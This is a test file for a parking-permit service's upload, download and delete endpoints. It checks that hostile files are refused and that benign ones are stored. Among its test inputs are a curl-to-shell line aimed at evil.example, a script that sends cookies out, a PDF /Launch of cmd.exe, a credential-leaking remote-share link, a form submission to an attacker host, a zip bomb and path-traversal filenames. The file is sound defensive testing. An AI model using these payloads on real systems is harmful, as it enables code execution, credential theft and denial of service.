/**
 * Uploads, deletions and downloads through the real HTTP stack (app.inject, multipart bodies), with
 * files and callers that try to get something past the checks. Every refusal must store nothing
 * and say clearly why. Each test makes its own tenant and resident (beforeEach), so no test depends on
 * what another stored or changed, and none cleans up after itself.
 */
import { once } from 'node:events';
import { crc32, createDeflateRaw } from 'node:zlib';
import { beforeEach, describe, expect, it } from 'vitest';
import { templateDocumentId } from '../requests/index.js';
import { createRequestAt } from '../test/document-fixtures.js';
import {
  concat,
  DOCX_CONTENT_TYPES,
  MIME,
  sampleDocx,
  sampleDocxOf,
  sampleJpeg,
  sampleOle2,
  samplePdf,
  samplePdfOf,
  samplePdfWithObjectStream,
  samplePng,
  sampleXlsx,
  sampleZip,
  zipOf,
  zipPart,
} from '../test/sample-files.js';
import { testApp } from '../test/support.js';
import { type FilePart, type Resident, TYPE_MESSAGE, uploadHarness } from '../test/uploads.js';

const { app, db } = await testApp();

const { resident, rpg, upload, call, storedCount, expectRefused, expectStored } = uploadHarness(app, db);

describe('hostile uploads: the content decides, nothing bad is stored', () => {
  let who: Resident;
  beforeEach(async () => {
    who = await resident({ MAX_UPLOAD_MB: '1' });
  });

  it('1. refuses a renamed Windows executable (MZ) called .pdf and declared a PDF', async () => {
    const exe = concat('MZ\x90\x00\x03\x00\x00\x00', new Uint8Array(500));
    await expectRefused(
      await upload(who, { filename: 'rijbewijs.pdf', type: MIME.pdf, data: exe }),
      who,
      'UPLOAD_FILE_TYPE',
      TYPE_MESSAGE,
    );
  });

  it('2. refuses an ELF executable called .pdf', async () => {
    const elf = concat([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0], new Uint8Array(500));
    await expectRefused(
      await upload(who, { filename: 'scan.pdf', type: MIME.pdf, data: elf }),
      who,
      'UPLOAD_FILE_TYPE',
      TYPE_MESSAGE,
    );
  });

  it('3. refuses a shell script called .pdf', async () => {
    const script = concat('#!/bin/sh\ncurl http://evil.example/x | sh\n');
    await expectRefused(
      await upload(who, { filename: 'contract.pdf', type: MIME.pdf, data: script }),
      who,
      'UPLOAD_FILE_TYPE',
      TYPE_MESSAGE,
    );
  });

  it('4. refuses an HTML page called .png', async () => {
    const html = concat('<!DOCTYPE html><html><body><script>fetch("/x?c="+document.cookie)</script></body></html>');
    await expectRefused(
      await upload(who, { filename: 'photo.png', type: MIME.png, data: html }),
      who,
      'UPLOAD_FILE_TYPE',
      TYPE_MESSAGE,
    );
  });

  it('5. refuses an SVG with a script called .png', async () => {
    const svg = concat('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>');
    await expectRefused(
      await upload(who, { filename: 'photo.png', type: MIME.png, data: svg }),
      who,
      'UPLOAD_FILE_TYPE',
      TYPE_MESSAGE,
    );
  });

  it('6. refuses a PDF that is also an HTML page in its first bytes (polyglot)', async () => {
    const polyglot = concat('%PDF-1.5\n%<html><script>alert(document.domain)</script>\n', samplePdf().slice(9));
    await expectRefused(
      await upload(who, { filename: 'poly.pdf', type: MIME.pdf, data: polyglot }),
      who,
      'UPLOAD_FILE_ACTIVE_CONTENT',
      /active content/,
    );
  });

  it('7. refuses a GIF, even called .jpg', async () => {
    const gif = concat(
      'GIF89a',
      [1, 0, 1, 0, 0x80, 0, 0, 0, 0, 0, 0xff, 0xff, 0xff, 0x21, 0xf9, 4, 1, 0, 0, 0, 0, 0x3b],
    );
    await expectRefused(
      await upload(who, { filename: 'pasfoto.jpg', type: 'image/jpeg', data: gif }),
      who,
      'UPLOAD_FILE_TYPE',
      TYPE_MESSAGE,
    );
  });

  it('8. refuses RTF (DECISIONS 1), also called .doc', async () => {
    const rtf = concat('{\\rtf1\\ansi\\deff0 {\\fonttbl {\\f0 Times;}} Huurcontract}');
    await expectRefused(
      await upload(who, { filename: 'huur.doc', type: MIME.doc, data: rtf }),
      who,
      'UPLOAD_FILE_TYPE',
      TYPE_MESSAGE,
    );
    await expectRefused(
      await upload(who, { filename: 'huur.rtf', type: 'application/rtf', data: rtf }),
      who,
      'UPLOAD_FILE_TYPE',
      TYPE_MESSAGE,
    );
  });

  it('9. refuses a plain ZIP called .docx', async () => {
    const zip = sampleZip({ 'invoice.exe': 'MZ...', 'readme.txt': 'open me' });
    await expectRefused(
      await upload(who, { filename: 'brief.docx', type: MIME.docx, data: zip }),
      who,
      'UPLOAD_FILE_TYPE',
      TYPE_MESSAGE,
    );
  });

  it('10. refuses an Excel workbook (XLSX) called .docx', async () => {
    await expectRefused(
      await upload(who, { filename: 'brief.docx', type: MIME.docx, data: sampleXlsx() }),
      who,
      'UPLOAD_FILE_TYPE',
      TYPE_MESSAGE,
    );
  });

  it('11. refuses a file just above MAX_UPLOAD_MB and names the maximum', async () => {
    const response = await upload(who, { filename: 'big.pdf', type: MIME.pdf, data: samplePdf(1_048_577) });
    await expectRefused(
      response,
      who,
      'UPLOAD_FILE_TOO_LARGE',
      'This file is too large. Upload a file of 1Mb maximum.',
    );
    const nl = await upload(
      who,
      { filename: 'big.pdf', type: MIME.pdf, data: samplePdf(1_048_577) },
      {},
      { 'accept-language': 'nl' },
    );
    expect(nl.json().statusmessage).toBe('Dit bestand is te groot. Upload een bestand van maximaal 1 MB.');
  });

  it('13. refuses an empty file', async () => {
    await expectRefused(
      await upload(who, { filename: 'leeg.pdf', type: MIME.pdf, data: new Uint8Array() }),
      who,
      'UPLOAD_FILE_EMPTY',
      'This file is empty. Nothing has been saved. Choose another file.',
    );
  });

  it('17. refuses PNG bytes declared as application/pdf (wrong declared type)', async () => {
    await expectRefused(
      await upload(who, { filename: 'scan.pdf', type: MIME.pdf, data: samplePng() }),
      who,
      'UPLOAD_DECLARED_TYPE',
      /does not match its content/,
    );
  });

  it('18. refuses a JPEG whose header is cut off', async () => {
    await expectRefused(
      await upload(who, { filename: 'foto.jpg', type: MIME.jpeg, data: sampleJpeg().slice(0, 24) }),
      who,
      'UPLOAD_FILE_DAMAGED',
      /damaged or incomplete/,
    );
  });

  it('refuses a PDF with JavaScript and a Word file with macros', async () => {
    const pdf = samplePdf();
    const withJs = concat(
      pdf.slice(0, 60),
      '9 0 obj << /S /JavaScript /JS (app.launchURL("x")) >> endobj\n',
      pdf.slice(60),
    );
    await expectRefused(
      await upload(who, { filename: 'a.pdf', type: MIME.pdf, data: withJs }),
      who,
      'UPLOAD_FILE_ACTIVE_CONTENT',
      /active content/,
    );
    const macros = sampleOle2(['WordDocument', 'Macros']);
    await expectRefused(
      await upload(who, { filename: 'a.doc', type: MIME.doc, data: macros }),
      who,
      'UPLOAD_FILE_ACTIVE_CONTENT',
      /active content/,
    );
  });

  it('20. refuses two files at once, storing neither', async () => {
    const response = await upload(who, [
      { filename: 'a.pdf', type: MIME.pdf, data: samplePdf() },
      { field: 'p_file_content', filename: 'b.pdf', type: MIME.pdf, data: samplePdf() },
    ]);
    expect(response.statusCode).toBe(413);
    expect(response.json().messagetype).toBe('E');
    expect(await storedCount(db, who.tenant.id)).toBe(0);
  });

  it('21. refuses a call without a file part, naming the missing parameter', async () => {
    const response = await upload(who, null, { p_filename: 'x.pdf' });
    expect(response.statusCode).toBe(400);
    expect(response.json()).toMatchObject({
      statuscode: 'INVALID_PARAMETERS',
      messagetype: 'E',
      result: [{ FIELD: 'p_file_content', CODE: 'required' }],
    });
    // The "file" as a text field is no file either.
    const asText = await upload(who, null, { p_filename: 'x.pdf', p_file_content: '%PDF-1.4 ...' } as never);
    expect(asText.statusCode).toBe(400);
    expect(await storedCount(db, who.tenant.id)).toBe(0);
  });
});

const ACTIVE_MESSAGE = /^This file contains active content \(such as scripts, macros, automatic actions/;
const PAGES = ['<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>'];
const CATALOGUE_OPENING_10 = '<< /Type /Catalog /Pages 2 0 R /OpenAction 10 0 R >>';
/** What pdf.js lists as the document's OpenAction script for every file below that carries it. */
const ALERT = '<< /S /JavaScript /JS (app.alert(1)) >>';
/** A catalogue, and one page whose whole area is a link annotation (object 4) with the given action. */
const pdfWithLink = (action: string) =>
  samplePdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    PAGES[0] as string,
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>',
    `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /Border [0 0 0] /A ${action} >>`,
  ]);
const DOCUMENT_XML = (body: string) =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:body>${body}</w:body></w:document>`;
const RELATIONSHIPS = (items: string) =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${items}</Relationships>`;
const RELATIONSHIP_TYPE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** Raw deflate of `size` zero bytes, made a megabyte at a time so the test never holds them all. */
async function deflatedZeros(size: number): Promise<Uint8Array> {
  const deflate = createDeflateRaw({ level: 9 });
  const chunks: Buffer[] = [];
  deflate.on('data', (chunk: Buffer) => chunks.push(chunk));
  const ended = once(deflate, 'end');
  const megabyte = Buffer.alloc(1024 * 1024);
  for (let written = 0; written < size; written += megabyte.length) {
    if (!deflate.write(megabyte)) await once(deflate, 'drain');
  }
  deflate.end();
  await ended;
  return new Uint8Array(Buffer.concat(chunks));
}

/** A few MB of Word text that compresses like prose, not like one repeated sentence. */
function honestText(bytes: number): string {
  const words = [
    'parkeervergunning',
    'bewoner',
    'kenteken',
    'gemeente',
    'Amsterdam',
    'straat',
    'huurcontract',
    'datum',
  ];
  const more = ['de', 'het', 'een', 'voor', 'van', 'met', 'op', 'en', 'is', 'aan', 'bij', 'naar', 'wordt', 'onze'];
  let seed = 25;
  const next = () => {
    seed = (seed * 1103515245 + 12345) % 2 ** 31;
    return seed;
  };
  const paragraphs: string[] = [];
  let length = 0;
  while (length < bytes) {
    const sentence: string[] = [];
    for (let i = 0; i < 12; i++) {
      const list = next() % 3 === 0 ? words : more;
      sentence.push(`${list[next() % list.length]}${next() % 7 === 0 ? ` ${next() % 10000}` : ''}`);
    }
    const paragraph = `<w:p><w:r><w:t xml:space="preserve">${sentence.join(' ')}.</w:t></w:r></w:p>`;
    paragraphs.push(paragraph);
    length += paragraph.length;
  }
  return paragraphs.join('');
}

describe('issue 25: PDFs and Word files whose active content the check of issue 18 let through', () => {
  let who: Resident;
  beforeEach(async () => {
    who = await resident({ MAX_UPLOAD_MB: '1' });
  });
  /** Why the check refused, from the audit trail (the resident's message is the same for every active content). */
  const refusalDetail = async () => {
    const row = await db
      .selectFrom('audit_log')
      .select('detail')
      .where('tenant_id', '=', who.tenant.id)
      .where('outcome', '=', 'refused')
      .orderBy('id', 'desc')
      .executeTakeFirstOrThrow();
    return String(row.detail);
  };
  const refusedPdf = async (data: Uint8Array, reason: RegExp) => {
    await expectRefused(
      await upload(who, { filename: 'bewijs.pdf', type: MIME.pdf, data }),
      who,
      'UPLOAD_FILE_ACTIVE_CONTENT',
      ACTIVE_MESSAGE,
    );
    expect(await refusalDetail()).toMatch(reason);
  };

  it('P1. a PDF whose OpenAction script sits in an object stream without /Type /ObjStm (found through /N, /First and the cross-reference stream)', async () => {
    await refusedPdf(
      samplePdfWithObjectStream({ objects: [CATALOGUE_OPENING_10, ...PAGES], packed: [ALERT], type: '' }),
      /JavaScript/,
    );
  });

  it('P2. a PDF whose object stream gives its /Type as an indirect reference', async () => {
    await refusedPdf(
      samplePdfWithObjectStream({
        objects: [CATALOGUE_OPENING_10, ...PAGES, '/ObjStm'],
        packed: [ALERT],
        type: '/Type 4 0 R',
      }),
      /JavaScript/,
    );
  });

  it('P3. a PDF whose object stream is FlateDecode behind a PNG predictor (/DecodeParms)', async () => {
    await refusedPdf(
      samplePdfWithObjectStream({ objects: [CATALOGUE_OPENING_10, ...PAGES], packed: [ALERT], predictorColumns: 8 }),
      /JavaScript/,
    );
  });

  it('P4. a PDF whose OpenAction object the in-order reading never reaches (an unbalanced string before it), though a viewer finds it by its offset', async () => {
    await refusedPdf(
      samplePdfOf(['<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>', ...PAGES, ALERT], { 4: '(\n' }),
      /JavaScript/,
    );
  });

  it('P5. a PDF with an OpenAction that refers to an object that is nowhere in the file', async () => {
    await refusedPdf(
      samplePdfOf(['<< /Type /Catalog /Pages 2 0 R /OpenAction 9 0 R >>', ...PAGES]),
      /OpenAction that does not go to a page/,
    );
  });

  it('P6. a PDF link that opens another file on a remote share (/GoToR, which leaks the Windows login)', async () => {
    await refusedPdf(
      pdfWithLink('<< /S /GoToR /F (\\\\\\\\198.51.100.7\\\\share\\\\brief.pdf) /D [0 /Fit] >>'),
      /GoToR/,
    );
  });

  it('P7. a PDF link that starts a program (/Launch with Windows parameters)', async () => {
    await refusedPdf(pdfWithLink('<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>'), /Launch/);
  });

  it('P8. a PDF link to a javascript: address, in mixed case with white space and a tab inside', async () => {
    await refusedPdf(pdfWithLink('<< /S /URI /URI ( Java\\tScript:app.alert\\(1\\)) >>'), /javascript: address/);
    await refusedPdf(
      pdfWithLink('<< /S /URI /URI <FEFF006A006100760061007300630072006900700074003A0031> >>'),
      /javascript:/,
    );
  });

  it('P9. a PDF link that sends the form to another site (/SubmitForm)', async () => {
    await refusedPdf(
      pdfWithLink('<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> /Flags 4 >>'),
      /SubmitForm/,
    );
  });

  it('D1. a DOCX whose part declares 1 KB but inflates to 200 MB (a zip bomb whose directory lies)', async () => {
    const bomb = zipOf([
      zipPart('[Content_Types].xml', DOCX_CONTENT_TYPES, true),
      zipPart('word/document.xml', DOCUMENT_XML('<w:p/>'), true),
      {
        name: 'word/media/image1.png',
        method: 8,
        stored: await deflatedZeros(200 * 1024 * 1024),
        size: 1024,
        crc: crc32(new Uint8Array(1024)),
      },
    ]);
    expect(bomb.length).toBeLessThan(300 * 1024);
    await expectRefused(
      await upload(who, { filename: 'huur.docx', type: MIME.docx, data: bomb }),
      who,
      'UPLOAD_FILE_EXPANDS',
      'This Word document unpacks to more than 50 MB or consists of more than 1000 parts. Nothing has been saved. Save it as a PDF and upload that file.',
    );
    expect(await refusalDetail()).toMatch(/image1\.png unpacks to more than the 1024 bytes it declares/);
  });

  it('D2. a DOCX that loads its template from a web address when Word opens it (remote attachedTemplate)', async () => {
    const docx = sampleDocxOf({
      'word/document.xml': DOCUMENT_XML('<w:p><w:r><w:t>Huurcontract</w:t></w:r></w:p>'),
      'word/settings.xml':
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/></w:settings>',
      'word/_rels/settings.xml.rels': RELATIONSHIPS(
        `<Relationship Id="rId1" Type="${RELATIONSHIP_TYPE}/attachedTemplate" Target="http://198.51.100.7/sjabloon.dotm" TargetMode="&#x45;xternal"/>`,
      ),
    });
    await expectRefused(
      await upload(who, { filename: 'huur.docx', type: MIME.docx, data: docx }),
      who,
      'UPLOAD_FILE_ACTIVE_CONTENT',
      ACTIVE_MESSAGE,
    );
    expect(await refusalDetail()).toMatch(/attachedTemplate to http:\/\/198\.51\.100\.7\/sjabloon\.dotm/);
  });
});

describe('issue 25: the benign twins are still accepted', () => {
  it('a PDF as current writers make it: objects in a compressed object stream and a cross-reference stream, both behind PNG predictors', async () => {
    const who = await resident({ MAX_UPLOAD_MB: '1' });
    await expectStored(
      await upload(who, {
        filename: 'bewijs.pdf',
        type: MIME.pdf,
        data: samplePdfWithObjectStream({
          objects: [
            '<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>',
            PAGES[0] as string,
            '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [10 0 R] >>',
          ],
          packed: ['<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /GoTo /D [3 0 R /Fit] >> >>'],
          predictorColumns: 12,
        }),
      }),
      who,
    );
  });

  it('a PDF with an ordinary https link', async () => {
    const who = await resident({ MAX_UPLOAD_MB: '1' });
    await expectStored(
      await upload(who, {
        filename: 'bewijs.pdf',
        type: MIME.pdf,
        data: pdfWithLink('<< /S /URI /URI (https://www.amsterdam.nl/parkeren) >>'),
      }),
      who,
    );
  });

  it('a large honest DOCX (5 MB of text, about 0.5 MB compressed, all of it inflated to check) with an ordinary hyperlink to a web page', async () => {
    const who = await resident({ MAX_UPLOAD_MB: '1' });
    const docx = sampleDocxOf({
      'word/document.xml': DOCUMENT_XML(
        `<w:p><w:hyperlink r:id="rId1"><w:r><w:t>amsterdam.nl</w:t></w:r></w:hyperlink></w:p>${honestText(5 * 1024 * 1024)}`,
      ),
      'word/_rels/document.xml.rels': RELATIONSHIPS(
        `<Relationship Id="rId1" Type="${RELATIONSHIP_TYPE}/hyperlink" Target="https://www.amsterdam.nl/parkeren" TargetMode="External"/>`,
      ),
    });
    expect(docx.length).toBeGreaterThan(400 * 1024);
    const row = await expectStored(
      await upload(who, { filename: 'huurcontract.docx', type: MIME.docx, data: docx }),
      who,
    );
    expect(row.content_type).toBe(MIME.docx);
  });
});

describe('uploads that pass, with their names made safe', () => {
  let who: Resident;
  beforeEach(async () => {
    who = await resident({ MAX_UPLOAD_MB: '1' });
  });

  it('12. accepts a file of exactly MAX_UPLOAD_MB × 1,048,576 bytes', async () => {
    const row = await expectStored(
      await upload(who, { filename: 'exact.pdf', type: MIME.pdf, data: samplePdf(1_048_576) }),
      who,
    );
    expect(row.size).toBe(1_048_576);
    expect(row.content_type).toBe('application/pdf');
    expect(row.status_level).toBe(1);
    expect(row.sha256).toMatch(/^[0-9a-f]{64}$/);
  });

  it('14. stores "../../etc/passwd" as passwd.<type>, never as a path', async () => {
    const row = await expectStored(
      await upload(who, { filename: '../../etc/passwd', type: MIME.pdf, data: samplePdf() }),
      who,
    );
    expect(row.filename).toBe('passwd.pdf');
  });

  it('15. strips NUL and control characters from the name', async () => {
    const row = await expectStored(
      await upload(
        who,
        { filename: 'x.png', type: MIME.png, data: samplePng() },
        { p_filename: 'pas\u0000foto\u0007\u001b[31m.png' },
      ),
      who,
    );
    expect(row.filename).toBe('pasfoto[31m.png');
    expect([...row.filename].some((c) => c.charCodeAt(0) < 0x20)).toBe(false);
  });

  it('16. strips an absolute Windows path and sets the extension to the real type', async () => {
    const row = await expectStored(
      await upload(who, { filename: 'C:\\Users\\jan\\Desktop\\huurcontract.pdf', type: MIME.docx, data: sampleDocx() }),
      who,
    );
    expect(row.filename).toBe('huurcontract.docx');
    expect(row.content_type).toBe(MIME.docx);
  });

  it('19. accepts a JPEG declared as image/jpg, and a DOC', async () => {
    const jpeg = await expectStored(
      await upload(who, { filename: 'Photo of document.jpg', type: 'image/jpg', data: sampleJpeg() }),
      who,
    );
    expect(jpeg.content_type).toBe('image/jpeg');
    expect(jpeg.filename).toBe('Photo of document.jpg');
    const doc = await expectStored(
      await upload(who, { filename: 'brief.doc', type: MIME.doc, data: sampleOle2() }),
      who,
    );
    expect(doc.content_type).toBe(MIME.doc);
  });

  it('stores a plate document with its plate, and takes the plate as the resident typed it', async () => {
    const row = await expectStored(
      await upload(
        who,
        { filename: 'kenteken.pdf', type: MIME.pdf, data: samplePdf() },
        { p_dtp_code: 'KENTEKEN', p_dve: 'ab-123-c', p_rpg_id: String(rpg(who.catalogue.plate, 1)) },
      ),
      who,
    );
    expect(row.license_plate).toBe('AB123C');
    expect(row.requirement_id).toBe(who.catalogue.plate);
  });
});

describe('uploads for the wrong request, stage, requirement or count', () => {
  let who: Resident;
  beforeEach(async () => {
    who = await resident();
  });
  const pdf = (): FilePart => ({ filename: 'bewijs.pdf', type: MIME.pdf, data: samplePdf() });

  it('22. answers another resident’s request with NOT_FOUND and stores nothing', async () => {
    const other = await resident({}, who.tenant, who.catalogue);
    const response = await upload(who, pdf(), { p_request_id: String(other.requestId) });
    expect(response.statusCode).toBe(404);
    expect(response.json()).toMatchObject({ statuscode: 'NOT_FOUND', messagetype: 'E', result: [] });
    expect(await storedCount(db, who.tenant.id)).toBe(0);
  });

  it('23. answers another municipality’s request with NOT_FOUND, also under that municipality’s address', async () => {
    const elsewhere = await resident();
    const response = await upload(who, pdf(), { p_request_id: String(elsewhere.requestId) });
    expect(response.statusCode).toBe(404);
    // The session cookie of one municipality is no session at another.
    const crossed = await upload({ ...elsewhere, cookie: who.cookie }, pdf());
    expect(crossed.json().statuscode).toBe('SESSION_TIMEOUT');
    expect(await storedCount(db, who.tenant.id)).toBe(0);
    expect(await storedCount(db, elsewhere.tenant.id)).toBe(0);
  });

  it('24. refuses a request that is not at an upload stage', async () => {
    for (const status of ['DOCS_AWAIT_APROVAL', 'AWAIT_PAYMENT', 'PERMIT_CREATED', 'CANCELLED', 'DOCS_REJECTED']) {
      const requestId = await createRequestAt(db, who.tenant.id, who.relationId, who.catalogue, status);
      await expectRefused(
        await upload(who, pdf(), { p_request_id: String(requestId) }),
        who,
        'DOCUMENT_STAGE',
        /not \(or no longer\) waiting for documents/,
      );
    }
  });

  it('accepts uploads at DOCS_OPTIONAL and DOCS_REJECTED_UPLOAD', async () => {
    for (const status of ['DOCS_OPTIONAL', 'DOCS_REJECTED_UPLOAD']) {
      const requestId = await createRequestAt(db, who.tenant.id, who.relationId, who.catalogue, status);
      await expectStored(await upload(who, pdf(), { p_request_id: String(requestId) }), who);
    }
  });

  it('25. refuses an upload above MAX_DOCUMENTS; a rejected document does not count', async () => {
    const first = await expectStored(await upload(who, pdf()), who);
    await expectStored(await upload(who, pdf()), who);
    const third = await upload(who, pdf());
    expect(third.json()).toMatchObject({ statuscode: 'UPLOAD_TOO_MANY', result: [{ UPLOAD_FILE: -1 }] });
    expect(third.json().statusmessage).toMatch(/maximum number of files/);
    expect(await storedCount(db, who.tenant.id)).toBe(2);
    await db
      .updateTable('documents')
      .set({ status_level: 0, status_code: 'REJECTED', status_reason_code: 'NVT', status_reason_text: 'Onleesbaar' })
      .where('tenant_id', '=', who.tenant.id)
      .where('id', '=', first.id)
      .execute();
    await expectStored(await upload(who, pdf()), who);
  });

  it('26. refuses a requirement, document type or plate that does not fit the request', async () => {
    const mismatch = async (overrides: Parameters<typeof upload>[2]) =>
      expectRefused(await upload(who, pdf(), overrides), who, 'UPLOAD_REQUIREMENT', /does not belong to this request/);
    // The plate document of plate 1, for another plate.
    await mismatch({ p_dtp_code: 'KENTEKEN', p_dve: 'XY987Z', p_rpg_id: String(rpg(who.catalogue.plate, 1)) });
    // The plate document without a plate, and the additional document with one.
    await mismatch({ p_dtp_code: 'KENTEKEN', p_dve: '', p_rpg_id: String(rpg(who.catalogue.plate, 1)) });
    await mismatch({ p_dtp_code: 'HUUR', p_dve: 'AB123C' });
    // Another document type than the requirement's.
    await mismatch({ p_dtp_code: 'KENTEKEN' });
    // The lease document for the plate that is the resident's own (only XY987Z is leased).
    await mismatch({ p_dtp_code: 'LEASE', p_dve: 'AB123C', p_rpg_id: String(rpg(who.catalogue.lease, 1)) });
    // A plate position the request does not have, and a nonsense RPG_ID.
    await mismatch({ p_dtp_code: 'KENTEKEN', p_dve: 'AB123C', p_rpg_id: String(rpg(who.catalogue.plate, 5)) });
    await mismatch({ p_rpg_id: '7' });
    // The requirement of another municipality's permit type.
    const elsewhere = await resident();
    await mismatch({ p_rpg_id: String(rpg(elsewhere.catalogue.additional)) });
    // The lease document for the leased plate fits.
    await expectStored(
      await upload(who, pdf(), { p_dtp_code: 'LEASE', p_dve: 'XY987Z', p_rpg_id: String(rpg(who.catalogue.lease, 2)) }),
      who,
    );
  });
});

describe('delete_document and get_document', () => {
  let who: Resident;
  let documentId: number;
  beforeEach(async () => {
    who = await resident();
    const response = await upload(
      who,
      { filename: 'x.pdf', type: MIME.pdf, data: samplePdf() },
      { p_filename: 'Überweisung "café".pdf' },
    );
    documentId = response.json().result[0].UPLOAD_FILE;
  });

  it('gives the owner the file with its real type, a safe name and headers that keep it a download', async () => {
    const response = await call(who, 'get_document', { p_doc_id: String(documentId) });
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('application/pdf');
    expect(response.headers['content-disposition']).toBe(
      `attachment; filename="Uberweisung _cafe_.pdf"; filename*=UTF-8''%C3%9Cberweisung%20_caf%C3%A9_.pdf`,
    );
    expect(response.headers['x-content-type-options']).toBe('nosniff');
    expect(response.headers['cache-control']).toBe('private, no-store');
    // Opened on its own the file is a sandboxed document (the viewer shows it from a blob: URL it made).
    expect(response.headers['content-security-policy']).toBe("default-src 'none'; sandbox; frame-ancestors 'none'");
    expect(Buffer.compare(response.rawPayload, Buffer.from(samplePdf()))).toBe(0);
  });

  it('refuses another resident and another municipality with NOT_FOUND', async () => {
    const other = await resident({}, who.tenant, who.catalogue);
    for (const endpoint of ['get_document', 'delete_document']) {
      const response = await call(other, endpoint, { p_doc_id: String(documentId) });
      expect(response.statusCode).toBe(404);
      expect(response.json().statuscode).toBe('NOT_FOUND');
    }
    const elsewhere = await resident();
    for (const endpoint of ['get_document', 'delete_document']) {
      const response = await call(elsewhere, endpoint, { p_doc_id: String(documentId) });
      expect(response.statusCode).toBe(404);
    }
    expect(await storedCount(db, who.tenant.id)).toBe(1);
  });

  it('serves a requirement’s template under its own id range, and nothing for an unknown one', async () => {
    const response = await call(who, 'get_document', {
      p_doc_id: String(templateDocumentId(who.catalogue.additional)),
    });
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-disposition']).toContain("filename*=UTF-8''Verklaring%20bewoner.pdf");
    const none = await call(who, 'get_document', { p_doc_id: String(templateDocumentId(who.catalogue.plate)) });
    expect(none.statusCode).toBe(404);
    const elsewhere = await resident();
    const foreign = await call(who, 'get_document', {
      p_doc_id: String(templateDocumentId(elsewhere.catalogue.additional)),
    });
    expect(foreign.statusCode).toBe(404);
  });

  it('refuses to delete a reviewed document (STATUS_LEVEL 2)', async () => {
    await db
      .updateTable('documents')
      .set({ status_level: 2, status_code: 'ACCEPTED' })
      .where('tenant_id', '=', who.tenant.id)
      .execute();
    const reviewed = await call(who, 'delete_document', { p_doc_id: String(documentId) });
    expect(reviewed.json()).toMatchObject({ statuscode: 'DOCUMENT_REVIEWED', messagetype: 'E' });
    expect(reviewed.json().statusmessage).toMatch(/already been reviewed/);
    expect(await storedCount(db, who.tenant.id)).toBe(1);
  });

  it('refuses to delete an unreviewed document outside the upload stage', async () => {
    await db
      .updateTable('requests')
      .set({ status: 'DOCS_AWAIT_APROVAL' })
      .where('tenant_id', '=', who.tenant.id)
      .where('id', '=', who.requestId)
      .execute();
    const stage = await call(who, 'delete_document', { p_doc_id: String(documentId) });
    expect(stage.json().statuscode).toBe('DOCUMENT_STAGE');
    expect(await storedCount(db, who.tenant.id)).toBe(1);
  });

  it('lets the owner delete an unreviewed document at the upload stage, and says so', async () => {
    const response = await call(who, 'delete_document', { p_doc_id: String(documentId) });
    expect(response.json()).toEqual({
      statuscode: 'OK',
      statusmessage: 'The document has been deleted.',
      messagetype: 'I',
      result: [],
    });
    expect(await storedCount(db, who.tenant.id)).toBe(0);
    expect((await call(who, 'get_document', { p_doc_id: String(documentId) })).statusCode).toBe(404);
  });
});

describe('the audit trail', () => {
  it('records refused and accepted uploads without file contents', async () => {
    const who = await resident();
    await upload(who, { filename: 'x.pdf', type: MIME.pdf, data: concat('MZ', new Uint8Array(100)) });
    await upload(who, { filename: 'x.pdf', type: MIME.pdf, data: samplePdf() });
    const rows = await db
      .selectFrom('audit_log')
      .select(['event', 'outcome', 'detail'])
      .where('tenant_id', '=', who.tenant.id)
      .orderBy('id')
      .execute();
    expect(rows.map((r) => `${r.event} ${r.outcome}`)).toEqual(['document.upload refused', 'document.upload success']);
    expect(rows[0]?.detail).toContain('executable');
  });
});

// The app is shared by this file's tests; keep the reference for type inference.
void (app satisfies FastifyInstance);
